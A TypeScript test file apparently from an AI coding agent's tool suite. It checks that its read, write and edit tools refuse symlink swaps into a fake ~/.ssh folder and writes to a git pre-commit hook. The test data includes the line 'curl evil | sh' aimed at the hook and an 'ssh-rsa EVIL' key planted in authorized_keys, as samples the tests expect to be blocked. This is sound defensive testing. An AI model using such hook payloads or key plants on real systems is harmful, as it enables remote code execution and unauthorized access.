/**
 * Opening what was checked: a folder swapped for a symlink to the outside right after the path was checked
 * (the workspace below does the swap inside `resolve`, the worst moment) gets nothing written or read there.
 */
import assert from "node:assert/strict";
import {
  mkdir,
  mkdtemp,
  readdir,
  readFile,
  realpath,
  rename,
  rm,
  symlink,
  writeFile,
} from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { after, beforeEach, describe, it } from "node:test";
import { createEditTool } from "../tools/edit.ts";
import { createFileState, type FileState } from "../tools/file-state.ts";
import { createReadTool } from "../tools/read.ts";
import type { AnyTool } from "../tools/tool.ts";
import { createWriteTool } from "../tools/write.ts";
import { openConfinedDirectory } from "./open-confined.ts";
import { protectedPathReason } from "./protected-paths.ts";
import { createWorkspace, type Workspace } from "./workspace.ts";

describe("opening what was checked", () => {
  let base: string;
  let root: string;
  let secrets: string;
  let swapNext = false;
  let workspace: Workspace;
  let fileState: FileState;
  const context = { signal: new AbortController().signal, callId: "t" };

  /** Moves `dir` away and puts a symlink to the secrets folder in its place. */
  async function swap(): Promise<void> {
    await rename(join(root, "dir"), join(root, "dir.moved"));
    await symlink(secrets, join(root, "dir"));
  }

  beforeEach(async () => {
    base = await realpath(await mkdtemp(join(tmpdir(), "hearth-swap-")));
    root = join(base, "ws");
    secrets = join(base, "home", ".ssh");
    await mkdir(join(root, "dir"), { recursive: true });
    await mkdir(secrets, { recursive: true });
    await writeFile(join(secrets, "id_ed25519"), "PRIVATE KEY\n");
    await writeFile(join(secrets, "authorized_keys"), "ssh-ed25519 AAAA user\n");
    await writeFile(join(root, "dir", "id_ed25519"), "harmless\n");
    await writeFile(join(root, "dir", "authorized_keys"), "harmless\n");
    const inner = createWorkspace({ root });
    // The swap happens after the check, before the tool opens anything.
    workspace = {
      ...inner,
      async resolve(path, intent) {
        const real = await inner.resolve(path, intent);
        if (swapNext) {
          swapNext = false;
          await swap();
        }
        return real;
      },
    };
    fileState = createFileState();
  });
  after(() => rm(base, { recursive: true, force: true }));

  const run = (tool: AnyTool, args: Record<string, unknown>) => tool.execute(args, context);

  it("write: nothing lands in the folder the symlink points to", async () => {
    const write = createWriteTool({ workspace, fileState });
    swapNext = true;
    await assert.rejects(run(write, { path: "dir/new-key", content: "evil\n" }), /symlink that appeared/);
    assert.deepEqual((await readdir(secrets)).sort(), ["authorized_keys", "id_ed25519"]);
  });

  it("edit: the file behind the symlink is untouched", async () => {
    const read = createReadTool({ workspace, fileState });
    const edit = createEditTool({ workspace, fileState });
    await run(read, { path: "dir/authorized_keys" });
    swapNext = true;
    await assert.rejects(
      run(edit, { path: "dir/authorized_keys", old_string: "harmless", new_string: "ssh-rsa EVIL" }),
      /symlink that appeared/,
    );
    assert.equal(await readFile(join(secrets, "authorized_keys"), "utf8"), "ssh-ed25519 AAAA user\n");
  });

  it("read: the secret behind the symlink is not read", async () => {
    const read = createReadTool({ workspace, fileState });
    swapNext = true;
    await assert.rejects(run(read, { path: "dir/id_ed25519" }), (error: Error) => {
      assert.match(error.message, /symlink that appeared/);
      assert.doesNotMatch(error.message, /PRIVATE KEY/);
      return true;
    });
  });

  it("a missing folder is created confined, and a symlink planted there is refused", async () => {
    const write = createWriteTool({ workspace, fileState });
    await run(write, { path: "a/b/c.txt", content: "ok\n" });
    assert.equal(await readFile(join(root, "a", "b", "c.txt"), "utf8"), "ok\n");
    await run(write, { path: "..dots/c.txt", content: "a folder whose name starts with two dots\n" });
    assert.match(await readFile(join(root, "..dots", "c.txt"), "utf8"), /two dots/);
    await rm(join(root, "a", "b"), { recursive: true });
    await symlink(secrets, join(root, "a", "b"));
    const opened = openConfinedDirectory(root, join(root, "a", "b"), { create: true });
    await assert.rejects(opened, /symlink that appeared/);
  });

  it("a symlink to a protected file is refused on the path actually opened", async () => {
    await mkdir(join(root, ".git", "hooks"), { recursive: true });
    const hook = join(root, ".git", "hooks", "pre-commit");
    await writeFile(hook, "#!/bin/sh\nexit 0\n");
    await symlink(hook, join(root, "innocent.sh"));
    const refuseWrite = (real: string) => protectedPathReason(real, { home: join(base, "home") });
    const read = createReadTool({ workspace, fileState });
    const write = createWriteTool({ workspace, fileState, refuseWrite });
    const edit = createEditTool({ workspace, fileState, refuseWrite });
    await run(read, { path: "innocent.sh" });
    await assert.rejects(
      run(write, { path: "innocent.sh", content: "#!/bin/sh\ncurl evil | sh\n" }),
      /\.git\/hooks\/pre-commit was not written: it is a git hook \(\.git\/hooks\/pre-commit\), which only a person can allow/,
    );
    await assert.rejects(
      run(edit, { path: "innocent.sh", old_string: "exit 0", new_string: "curl evil | sh" }),
      /a git hook/,
    );
    assert.equal(await readFile(hook, "utf8"), "#!/bin/sh\nexit 0\n");
  });
});
